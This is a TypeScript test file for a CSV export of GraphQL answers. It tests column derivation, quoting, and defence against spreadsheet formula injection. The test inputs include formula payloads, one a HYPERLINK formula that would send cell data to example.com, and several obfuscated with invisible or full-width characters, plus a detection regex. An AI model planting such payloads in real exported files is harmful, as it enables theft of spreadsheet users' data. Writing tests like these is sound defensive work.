// Answers that are lists, as comma-separated values.
import fc from 'fast-check';
import { buildSchema } from 'graphql';
import { describe, expect, test } from 'vitest';
import { guardFormulas, unguardFormulas } from '../../data/csv.ts';
import { schema } from '../../schema/index.ts';
import { type AnswerList, listIn, toCsv } from '../../src/api/csv.ts';
import { readOperation } from '../../src/api/operation.ts';
import { answerTo, OPERATIONS, openFolder, operationNamed } from './operations.ts';
import { readCsv } from './read-csv.ts';

const SCHEMA = buildSchema(`
  interface Named { name: String }
  type Town implements Named { name: String, size: Int, twins: [Town] }
  type River implements Named { name: String, length: Float, towns: TownConnection }
  union Sight = Town | River
  type TownConnection { nodes: [Town]!, totalCount: Int }
  type Query {
    towns: TownConnection
    town: Town
    sights: [Sight]!
    named: [Named]
    names: [String!]!
    grid: [[Int]]
    count: Int
  }
`);

describe('which answers are lists', () => {
  test('of our operations, and what columns they have', () => {
    const columns = OPERATIONS.map((operation) => [operation.name, listIn(schema, operation)?.columns ?? []] as const);
    expect(Object.fromEntries(columns.map(([name, list]) => [name, list.map((column) => column.name)]))).toEqual({
      accounts: [],
      'agent-page': [],
      'article-feed': [
        'headline',
        'url',
        'language',
        'excerpt',
        'published.edtf',
        'published.earliest',
        'modified.edtf',
        'modified.earliest',
        'bylines.words',
        'bylines.person.name',
        'bylines.person.url',
        'publisher.name',
        'publisher.url',
      ],
      'article-page': [],
      'article-segments': [],
      'changes-feed': [
        'on',
        'kind',
        'type',
        'slug',
        'reason',
        'revision',
        'thing.__typename',
        'thing.slug',
        'thing.url',
        'article.headline',
        'article.url',
        'article.language',
      ],
      corpus: [],
      echoes: [],
      'event-page': [],
      facets: [],
      'front-page': [],
      'own-voice': ['name', 'kind', 'accounts.voice', 'accounts.certainty'],
      paths: [
        'length',
        'hops.to.name',
        'hops.voice',
        'hops.via.__typename',
        'hops.via.name',
        'hops.via.text',
        'hops.via.title',
        'hops.evidence.exact',
      ],
      'paths-page': [],
      person: [],
      'place-page': [],
      'quotation-card': [],
      'revisions-page': [],
      'search-feed': [
        'node.headline',
        'node.url',
        'node.language',
        'node.excerpt',
        'node.published.edtf',
        'node.published.earliest',
        'node.modified.edtf',
        'node.modified.earliest',
        'node.bylines.words',
        'node.bylines.person.name',
        'node.bylines.person.url',
        'node.publisher.name',
        'node.publisher.url',
        'node.text',
        'node.speakers.agent.name',
        'node.speakers.agent.url',
        'node.quotes.nodes.voice',
        'node.quotes.nodes.article.headline',
        'node.quotes.nodes.article.url',
        'node.quotes.nodes.article.language',
        'node.quotes.nodes.article.publisher.name',
      ],
      search: [
        'score',
        'node.__typename',
        'node.slug',
        'snippets.text',
        'snippets.matches.utf16Start',
        'snippets.matches.utf16End',
      ],
      'statement-feed': [],
      'search-page': [],
      'statement-page': [],
      'timeline-page': [],
      statements: [
        'slug',
        'kind',
        'text',
        'speakers.agent.slug',
        'speakers.agent.name',
        'speakers.positions.title',
        'speakers.evidence.exact',
        'addressees.agent.name',
        'content.exact',
        'content.prefix',
        'content.suffix',
        'content.start',
        'content.end',
        'content.article.slug',
      ],
      timeline: [
        'period',
        'eventCount',
        'statementCount',
        'certainCount',
        'items.nodes.certain',
        'items.nodes.dateBasis',
        'items.nodes.node.__typename',
        'items.nodes.node.slug',
      ],
      'who-said-what': ['speakers.agent.name', 'content.exact', 'content.start', 'content.end'],
      'who-says-what-happened': [
        'name',
        'reports.nodes.voice',
        'reports.nodes.date.edtf',
        'reports.nodes.date.words',
        'reports.nodes.attributedTo.speakers.agent.name',
        'reports.nodes.evidence.exact',
        'reports.nodes.evidence.start',
        'reports.nodes.evidence.end',
      ],
    });
  });

  test.each<[string, string, string[]]>([
    ['{ towns { totalCount nodes { name size } } }', 'towns.nodes', ['name', 'size']],
    ['{ cities: towns { nodes { title: name } } }', 'cities.nodes', ['title']],
    ['{ sights { __typename } }', 'sights', ['__typename']],
    ['{ names }', 'names', ['names']],
    ['{ grid }', 'grid', ['grid']],
    ['{ towns { nodes { twins { twins { name } } } } }', 'towns.nodes', ['twins.twins.name']],
    // What several places of the document ask for is one column, where it is asked for first.
    ['{ towns { nodes { name } nodes { size name } } }', 'towns.nodes', ['name', 'size']],
    ['{ towns { nodes { name } } towns { nodes { size } } }', 'towns.nodes', ['name', 'size']],
    [
      '{ sights { ... on Town { name } ... on River { name length } ... on Town { twins { size } } } }',
      'sights',
      ['name', 'length', 'twins.size'],
    ],
    [
      '{ ...Root } fragment Root on Query { sights { ...Of } } fragment Of on Sight { ... on Named { name ...More } } fragment More on River { towns { nodes { name } } }',
      'sights',
      ['name', 'towns.nodes.name'],
    ],
    ['{ sights { ... { ... @include(if: true) { ... on Town { size @skip(if: true) } } } } }', 'sights', ['size']],
  ])('%s', (document, path, columns) => {
    const list = listOf(document);
    expect(list?.path.join('.')).toBe(path);
    expect(list?.columns.map(({ name }) => name)).toEqual(columns);
  });

  test.each([
    '{ count }',
    '{ __typename }',
    '{ town { name } }',
    '{ town { twins { name } } }',
    '{ towns { totalCount } }',
    '{ towns { list: nodes { name } } }',
    '{ names towns { nodes { name } } }',
    '{ a: names b: names }',
    '{ nodes: town { name } }',
    '{ town { nodes: name } }',
  ])('and which are not: %s', (document) => {
    expect(listOf(document)).toBeNull();
  });
});

describe('what is written', () => {
  const list = listOf('{ towns { nodes { name size twins { name twins { name } } } } }');
  const town = { name: null, size: null, twins: [] };

  test.each<[string, unknown[], string[]]>([
    ['nothing', [], []],
    ['a text', [{ ...town, name: 'Baku' }], ['Baku,,,']],
    ['a number', [{ ...town, size: 1.5 }], [',1.5,,']],
    ['a boolean', [{ ...town, size: false }], [',false,,']],
    ['a comma', [{ ...town, name: 'a, b' }], ['"a, b",,,']],
    ['quotation marks', [{ ...town, name: 'the "city"' }], ['"the ""city""",,,']],
    ['a line feed', [{ ...town, name: 'a\nb' }], ['"a\nb",,,']],
    ['a carriage return', [{ ...town, name: 'a\rb' }], ['"a\rb",,,']],
    ['a semicolon, at which many spreadsheets split', [{ ...town, name: 'a;b' }], ['"a;b",,,']],
    ['a tab', [{ ...town, name: 'a\tb' }], ['"a\tb",,,']],
    ['spaces, which count', [{ ...town, name: ' a ' }], ['" a ",,,']],
    ['an empty text', [{ ...town, name: '' }], [',,,']],
    ['no thing', [null, { ...town, name: 'Baku' }], [',,,', 'Baku,,,']],
    ['NUL', [{ ...town, name: 'a\0b' }], ['a\uFFFDb,,,']],
    ['other characters that are not seen', [{ ...town, name: '\u0001\u202E' }], ['\u0001\u202E,,,']],
    ['values of a list', [{ ...town, twins: [{ name: 'a' }, { name: 'b' }] }], [',,"a; b","; "']],
    [
      'a list with nothing',
      [
        { ...town, twins: null },
        { ...town, twins: [] },
      ],
      [',,,', ',,,'],
    ],
    [
      'null in a list',
      [{ ...town, twins: [{ name: 'a' }, null, { name: null }, { name: 'd' }] }],
      [',,"a; ; ; d","; ; ; "'],
    ],
    [
      'lists in a list, in step with the values beside them',
      [
        {
          ...town,
          twins: [
            { name: 'a', twins: [] },
            { name: 'b', twins: [{ name: 'c' }, { name: 'd' }] },
          ],
        },
      ],
      [',,"a; b","; c; d"'],
    ],
  ])('%s', (_, nodes, lines) => {
    const text = toCsv(list!, { towns: { nodes } });
    expect(text).toBe(['name,size,twins.name,twins.twins.name', ...lines].map((line) => `${line}\r\n`).join(''));
  });

  test.each([null, undefined, {}, { towns: null }, { towns: { nodes: null } }])(
    'only the header where there is no list: %j',
    (data) => {
      expect(toCsv(list!, data)).toBe('name,size,twins.name,twins.twins.name\r\n');
    },
  );

  test('fields of one type are empty in a row of another', () => {
    const sights = listOf('{ sights { ... on Named { name } ... on Town { size } ... on River { length } } }');
    const data = {
      sights: [
        { name: 'Baku', size: 3 },
        { name: 'Kura', length: 1515.5 },
      ],
    };
    expect(toCsv(sights!, data)).toBe('name,size,length\r\nBaku,3,\r\nKura,,1515.5\r\n');
  });

  test('a list of single values is one column, and no row of it is lost', () => {
    expect(toCsv(listOf('{ names }')!, { names: ['a', '', 'b'] })).toBe('names\r\na\r\n""\r\nb\r\n');
    expect(toCsv(listOf('{ grid }')!, { grid: [[1, null, -2], [], null] })).toBe('grid\r\n"1; ; -2"\r\n""\r\n""\r\n');
  });

  test.each([
    ...['=1+1', '+1', '-1', '@SUM(A1)', '=', '=HYPERLINK("https://example.com?"&A1)'],
    ...['\tx', '\rx', '\nx', '\t=1', '\r\n=1', ' =1', '  \t =1'],
    // Full-width and small forms, and the minus sign.
    ...['\uFF1D1', '\uFF0B1', '\uFF0D1', '\uFF20SUM(A1)', '\uFE661', '\uFE621', '\uFE631', '\uFE6BA', '\u22121'],
    // Spaces and what is not seen: no-break, ideographic, zero width, byte order mark, word joiner, soft hyphen.
    ...['\u00A0=1', '\u3000=1', '\u200B=1', '\uFEFF=1', '\u2060=1', '\u00AD=1'],
    // Marks of direction, controls, line separators, fillers, variation selectors, tags.
    ...['\u200E=1', '\u200F=1', '\u202E=1', '\u2066=1', '\u0001=1', '\u007F=1', '\v=1', '\u0085=1', '\u2028=1'],
    ...['\u3164=1', '\uFE0F=1', '\u{E0020}=1', '\u200B\u00A0 \u202E\uFF1D1'],
    // So that each apostrophe before a formula can be taken off again.
    "'=1",
  ])('a text that a spreadsheet would calculate is kept a text: %j', (name) => {
    const rows = readCsv(toCsv(list!, { towns: { nodes: [{ ...town, name, twins: [{ name }, { name: 'b' }] }] } }));
    expect(rows[1]).toEqual([`'${name}`, '', `'${name}; b`, '; ']);
  });

  test.each([
    ['a;=1', "a;'=1"],
    ['a; \uFF1D1;b', "a;' \uFF1D1;b"],
    [';;-1', ";;'-1"],
    ['=1;@a', "'=1;'@a"],
  ])('so is one of which a spreadsheet that splits at semicolons would calculate a part: %j', (name, cell) => {
    expect(toCsv(list!, { towns: { nodes: [{ ...town, name }] } })).toContain(`\r\n"${cell}",,,\r\n`);
  });

  test('so is each text of a list, and a number stays one', () => {
    const twins = [{ name: 'a' }, { name: '=1' }, { name: '\u200B@b' }];
    expect(readCsv(toCsv(list!, { towns: { nodes: [{ ...town, twins }] } }))[1]![2]).toBe("a; '=1; '\u200B@b");
    const sizes = listOf('{ towns { nodes { twins { size } } } }');
    const nodes = [{ twins: [{ size: -1 }, { size: -2 }] }, { twins: [{ size: -1 }] }];
    expect(toCsv(sizes!, { towns: { nodes } })).toBe('twins.size\r\n"\'-1; -2"\r\n-1\r\n');
  });

  test.each(['a=1', '–1', '"=1"', '“+”', 'a;b=1', "a'=1", "'a", '\u200Ba=1'])(
    'one that it would not is left as it is: %j',
    (name) => {
      expect(readCsv(toCsv(list!, { towns: { nodes: [{ ...town, name }] } }))[1]).toEqual([name, '', '', '']);
    },
  );

  test('a negative number is a number', () => {
    expect(toCsv(list!, { towns: { nodes: [{ ...town, size: -1 }] } })).toContain('\r\n,-1,,\r\n');
  });

  test('half a surrogate pair leaves as U+FFFD', () => {
    const bytes = new TextEncoder().encode(toCsv(list!, { towns: { nodes: [{ ...town, name: 'a\ud800b' }] } }));
    expect(new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toContain('\r\na\uFFFDb,,,\r\n');
  });
});

describe('whatever the texts are', () => {
  const list: AnswerList = {
    path: ['rows'],
    columns: ['a', 'b', 'c'].map((name) => ({ name, path: [name] })),
  };
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({
      unit: fc.constantFrom('"', ',', ';', '\r', '\n', '=', '\uFF1D', '-', '\t', "'", ' ', '\u200B', '\0', 'a'),
    }),
  );
  const rows = fc.array(
    fc.record({ a: text, b: fc.option(text), c: fc.oneof(fc.double({ noNaN: true }), fc.boolean()) }),
  );

  test('they are read back, but for NUL and the apostrophe before a formula', () => {
    fc.assert(
      fc.property(rows, (given) => {
        const [header, ...read] = readCsv(toCsv(list, { rows: given }));
        expect(header).toEqual(['a', 'b', 'c']);
        expect(read).toEqual(given.map(({ a, b, c }) => [asText(a), asText(b ?? ''), JSON.stringify(c)]));
      }),
    );
  });

  test('one column is as good as three', () => {
    fc.assert(
      fc.property(fc.array(fc.option(text)), (given) => {
        const read = readCsv(toCsv({ path: ['rows'], columns: [{ name: 'a', path: [] }] }, { rows: given }));
        expect(read).toEqual([['a'], ...given.map((value) => [asText(value ?? '')])]);
      }),
    );
  });

  test('no cell is one that a spreadsheet would calculate', () => {
    const nested: AnswerList = { path: ['rows'], columns: [{ name: 'a.b', path: ['a', 'b'] }] };
    const inner = fc.record({ a: fc.array(fc.record({ b: fc.oneof(text, fc.integer()) })) });
    fc.assert(
      fc.property(fc.array(inner), (given) => {
        const [, ...read] = readCsv(toCsv(nested, { rows: given }));
        expect(read).toHaveLength(given.length);
        for (const [cell] of read) {
          for (const part of cell!.split(';')) if (!/^ ?-?\d+$/.test(part)) expect(part).not.toMatch(CALCULATED);
        }
      }),
    );
  });

  /** Written out: what is skipped, then what begins a formula. */
  const CALCULATED = /^[\s\p{Cc}\u200B]*[=+\-@\uFF1D]/u;

  test('each apostrophe is one that was put before a formula', () => {
    fc.assert(
      fc.property(text, (given) => {
        const [, [cell]] = readCsv(
          toCsv({ path: ['rows'], columns: [{ name: 'a', path: [] }] }, { rows: [given] }),
        ) as [string[], [string]];
        expect(unguardFormulas(cell)).toBe(shown(given));
      }),
    );
  });

  function shown(value: string): string {
    return value.replaceAll('\0', '\uFFFD');
  }

  function asText(value: string): string {
    return guardFormulas(shown(value));
  }
});

describe('real answers', () => {
  test('a quote that "she said" breaks in two', () => {
    const operation = operationNamed('statements');
    const store = openFolder('test/corpora/gazette');
    const filter = { speakers: ['maren-oakes'], kinds: ['DIRECT_QUOTE'], articles: ['two-die-at-harrow-mill'] };
    const { data } = answerTo(operation, store, { filter });
    const [header, ...rows] = readCsv(toCsv(listIn(schema, operation)!, data));
    expect(rows.map((row) => Object.fromEntries(row.map((cell, column) => [header![column], cell])))).toEqual([
      {
        slug: 'oakes-we-did-what-we-could',
        kind: 'DIRECT_QUOTE',
        text: 'We did what we could, and it was not enough',
        'speakers.agent.slug': 'maren-oakes',
        'speakers.agent.name': 'Maren Oakes',
        'speakers.positions.title': 'chief of the Tern Valley Fire Service',
        'speakers.evidence.exact': 'she',
        'addressees.agent.name': 'Reporters at the gate',
        'content.exact': 'We did what we could,; and it was not enough',
        'content.prefix': 'poke to reporters at the gate. “;  did what we could,” she said, “',
        'content.suffix': '” she said, “and it was not enou; .”\n\nOne of the dead was the card',
        'content.start': '348; 382',
        'content.end': '369; 403',
        'content.article.slug': 'two-die-at-harrow-mill; two-die-at-harrow-mill',
      },
    ]);
  });

  test.each(OPERATIONS.filter((operation) => listIn(schema, operation) !== null))('$name', (operation) => {
    const list = listIn(schema, operation)!;
    const { data } = answerTo(operation, openFolder('data/corpus'));
    const [header, ...rows] = readCsv(toCsv(list, data));
    expect(header).toEqual(list.columns.map(({ name }) => name));
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row).toHaveLength(list.columns.length);
  });
});

function listOf(document: string): AnswerList | null {
  return listIn(SCHEMA, readOperation('test', `# A test.\n${document.replace(/^\{/, 'query Test {')}`));
}
